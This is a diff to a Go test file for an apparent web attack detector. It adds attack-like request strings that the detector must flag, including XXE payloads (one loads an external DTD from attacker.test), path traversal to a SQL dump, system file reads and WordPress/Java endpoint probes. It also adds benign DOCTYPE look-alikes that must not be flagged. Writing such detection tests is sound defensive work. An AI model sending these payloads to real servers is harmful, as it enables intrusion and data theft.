@@ -34,6 +34,15 @@ func TestFamiliesFifthPass(t *testing.T) {
 		{"/includes/site.sql", "", "", "probe-deep-dump", false},
 		// an entity referred to inside markup
 		{"/api?xml=" + q("<order><id>&payload;</id></order>"), "", "", "xxe-entity-reference", false},
+		{"/api?xml=" + q("]><r>&exfil;</r>"), "", "", "xxe-entity-reference", false},
+		{"/api?xml=" + q(`<!DOCTYPE r PUBLIC "-//X//Y" "https://attacker.test/r.dtd"><r/>`), "", "", "xxe-entity", true},
+		// product exploits' first requests, answered as a miss
+		{"/index.php?rest_route=/someplugin/v2/export", "", "", "probe-wp-endpoint", false},
+		{"/wp-content/themes/sometheme/ajax/load.php?id=1", "", "", "probe-wp-endpoint", false},
+		{"/portal/doLogin.action?redirect=x", "", "", "probe-java-action-query", false},
+		{"/proc/net/tcp", "", "", "probe-system-dir", false},
+		{"/cfg/backup/passwd", "", "", "probe-system-dir", false},
+		{"/read?file=" + q("../backups/site.sql"), "", "", "param-dump-path", false},
 		// LDAP breakouts in identity parameters
 		{"/login?user=" + q("jsmith*)"), "", "", "ldap-identity-breakout", true},
 		{"/login?login=" + q("x*)*"), "", "", "ldap-identity-breakout", true},
@@ -64,6 +73,9 @@ func TestFamiliesFifthPassLookAlikes(t *testing.T) {
 		"/import?xml=" + q("<p>Fish &amp; chips &copy; 2024 &nbsp;&#169;</p>"),
 		"/docs/release-notes.txt", "/docs/error-codes.html",
 		"/search?q=" + q("how to join wp_posts and wp_users"),
+		"/import?xml=" + q(`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`),
+		"/import?xml=" + q(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`),
+		"/import?xml=" + q("<p>50%off; sale</p>"), "/files?name=" + q("report.sql"),
 	}
 	for _, tg := range targets {
 		if hits := served(m, req("GET", tg, browserUA, "")); len(hits) > 0 {
